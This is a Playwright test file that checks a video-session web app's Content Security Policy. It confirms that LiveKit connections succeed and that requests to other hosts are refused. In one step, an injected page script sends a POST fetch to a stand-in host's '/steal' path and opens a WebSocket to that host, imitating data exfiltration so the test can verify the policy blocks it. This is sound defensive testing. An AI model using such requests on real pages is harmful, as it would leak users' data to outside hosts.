import { expect, test, type Page } from '@playwright/test';
import { MEDIA_USE, demo } from './support';

/**
 * `connect-src` in a real browser: a live session reaches the LiveKit URL the web server is
 * configured with (no violation), and a script's fetch or WebSocket to any other host is refused
 * by the policy (the page's CSP allows this origin, the LiveKit URL(s) and
 * TROUPE_WEB_CONNECT_SRC only).
 */
test.use(MEDIA_USE);
test.setTimeout(180_000);

const VIOLATION = /Content Security Policy|Refused to (execute|load|apply|evaluate|frame|connect)/i;

async function watchCsp(page: Page): Promise<string[]> {
  const seen: string[] = [];
  page.on('console', (message) => {
    if (VIOLATION.test(message.text())) seen.push(message.text());
  });
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      console.error(
        `Content Security Policy violation: ${event.violatedDirective} ${event.blockedURI}`,
      );
    });
  });
  return seen;
}

test('a live session reaches LiveKit with no violation; other hosts are refused', async ({
  page,
}) => {
  const violations = await watchCsp(page);
  const key = demo().handoff_embed_key;
  if (!key) throw new Error('the demo file has no handoff_embed_key (seed with test providers)');
  const response = await page.goto(`/embed/${encodeURIComponent(key)}`);
  const connect =
    (response?.headers()['content-security-policy'] ?? '')
      .split(';')
      .map((d) => d.trim())
      .find((d) => d.startsWith('connect-src')) ?? '';
  // Only this origin and configured ones: no bare scheme (any host of it).
  expect(connect.split(' ')).not.toEqual(
    expect.arrayContaining(['ws:', 'wss:', 'http:', 'https:']),
  );
  expect(connect).not.toContain('*');

  await page.getByTestId('start-session').click();
  await expect(page).toHaveURL(/\/s\/[0-9a-f-]{36}$/);
  await expect(page.getByTestId('connection-state')).toHaveText('connected', { timeout: 30_000 });
  await expect(page.getByTestId('agent-state')).toHaveText('listening', { timeout: 60_000 });
  expect(violations).toEqual([]);

  // A script on the page tries another host (TEST-NET-3: never reached): the policy refuses
  // both the fetch and the WebSocket before any packet leaves.
  const outcome = await page.evaluate(async () => {
    let fetched = 'sent';
    try {
      await fetch('https://203.0.113.9/steal', { method: 'POST', body: 'x' });
    } catch {
      fetched = 'refused';
    }
    try {
      new WebSocket('wss://203.0.113.9/socket');
    } catch {
      // Some browsers throw; Chromium reports the violation and fails the socket.
    }
    return fetched;
  });
  expect(outcome).toBe('refused');
  // Both reported as connect-src violations (the event and Chromium's console line).
  const refused = (url: string) =>
    violations.some((v) => v.includes(url) && /connect-src|Refused to connect/.test(v));
  await expect.poll(() => refused('https://203.0.113.9/steal')).toBe(true);
  await expect.poll(() => refused('wss://203.0.113.9/socket')).toBe(true);

  await page.getByTestId('end-session').click();
  await page.getByTestId('confirm-end').click();
  await expect(page.getByTestId('session-ended')).toBeVisible({ timeout: 30_000 });
});
